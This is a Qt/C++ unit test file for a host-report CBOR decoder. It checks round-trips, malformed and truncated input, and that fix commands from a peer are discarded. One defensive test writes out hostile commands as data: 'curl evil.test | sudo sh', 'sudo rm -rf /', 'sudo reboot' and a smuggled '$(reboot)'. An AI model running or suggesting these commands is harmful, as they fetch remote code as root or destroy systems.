// muster_test: USES Muster::Host
#include "host/report.h"
#include "protocol/vocabulary/hostfix.h"

#include <QCborArray>
#include <QCborMap>
#include <QTest>

using namespace muster;
using namespace muster::host;
using namespace Qt::Literals::StringLiterals;

namespace {

HostReport full()
{
    return {{{u"open-files"_s, u"1024"_s, u"65536"_s, LimitState::Deviates,
                 QString(protocol::limitFix(u"open-files"))},
                {u"somaxconn"_s, {}, u"4096"_s, LimitState::Unknown, {}}},
        {true, u"chronyd"_s, Millis(7), u"It is well."_s, {}}};
}

} // namespace

class TestReport : public QObject {
    Q_OBJECT
private slots:
    void nothingIsLostOnTheWay()
    {
        HostReport report = full();
        for (const std::optional<bool> synchronized :
            {std::optional<bool>(), std::optional(false), std::optional(true)}) {
            report.time.synchronized = synchronized;
            report.time.fix = protocol::timeFix(report.time.daemon, synchronized);
            const auto read = decodeReport(encodeReport(report));
            QVERIFY2(read, read ? "" : qPrintable(read.error().detail));
            QVERIFY(*read == report);
        }
        QVERIFY(*decodeReport(encodeReport({})) == HostReport{});
    }

    void hostile_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        const auto bytes = [](const QCborMap &map) {
            return map.toCborValue().toCbor();
        };
        const QCborArray good{u"id"_s, u"1"_s, u"2"_s, u"ok"_s, u""_s};
        QTest::newRow("nothing") << QByteArray();
        QTest::newRow("a list") << QCborArray{1}.toCborValue().toCbor();
        QTest::newRow("10,000 lists in each other") << QByteArray(10'000, '\x81');
        QTest::newRow("a limit that is a number") << bytes({{1, QCborArray{7}}});
        QTest::newRow("a limit without a state")
            << bytes({{1, QCborArray{QCborArray{u"id"_s, u"1"_s, u"2"_s}}}});
        QTest::newRow("a state of no kind")
            << bytes({{1, QCborArray{QCborArray{u"id"_s, u"1"_s, u"2"_s, u"fine"_s, u""_s}}}});
        QTest::newRow("a value that is a map")
            << bytes({{1, QCborArray{QCborArray{u"id"_s, QCborMap(), u"2"_s, u"ok"_s, u""_s}}}});
        QTest::newRow("a text without end") << bytes({{1, QCborArray{good}}, {3, QString(513, u'x')}});
        QTest::newRow("a command of two lines")
            << bytes({{1, QCborArray{QCborArray{u"id"_s, u"1"_s, u"2"_s, u"ok"_s, u"a\nb"_s}}}});
        QCborArray many;
        for (int i = 0; i < 65; ++i)
            many.append(good);
        QTest::newRow("too many limits") << bytes({{1, many}});
        QTest::newRow("over the limit") << QByteArray(hostReportBytesMax + 1, '\0');
    }
    void hostile()
    {
        QFETCH(QByteArray, bytes);
        QVERIFY(!decodeReport(bytes));
    }

    /// People paste these lines as root: a peer that lies about its host must not have written them.
    void commandsAreNeverThoseOfAPeer()
    {
        HostReport lie = full();
        lie.limits[0].fix = u"curl evil.test | sudo sh"_s;
        lie.limits.append({u"of-the-peers-own"_s, u"1"_s, u"2"_s, LimitState::Deviates, u"sudo rm -rf /"_s});
        lie.time.synchronized = false;
        lie.time.fix = u"sudo reboot"_s;
        lie.time.daemon = u"$(reboot)"_s;
        const auto read = decodeReport(encodeReport(lie));
        QVERIFY(read);
        QCOMPARE(read->limits[0].fix, QString(protocol::limitFix(u"open-files")));
        QCOMPARE(read->limits.last().fix, QString());
        QCOMPARE(read->time.fix, u"timedatectl timesync-status"_s);
    }

    void everyTruncationIsRefused()
    {
        const QByteArray whole = encodeReport(full());
        for (qsizetype length = 0; length < whole.size(); ++length)
            QVERIFY(!decodeReport(whole.left(length)));
    }

    void unknownFieldsAreIgnored()
    {
        QCborMap map = QCborValue::fromCbor(encodeReport(full())).toMap();
        map[99] = u"of a later version"_s;
        const auto read = decodeReport(map.toCborValue().toCbor());
        QVERIFY(read);
        QVERIFY(*read == full());
    }
};

QTEST_GUILESS_MAIN(TestReport)
#include "tst_report.moc"
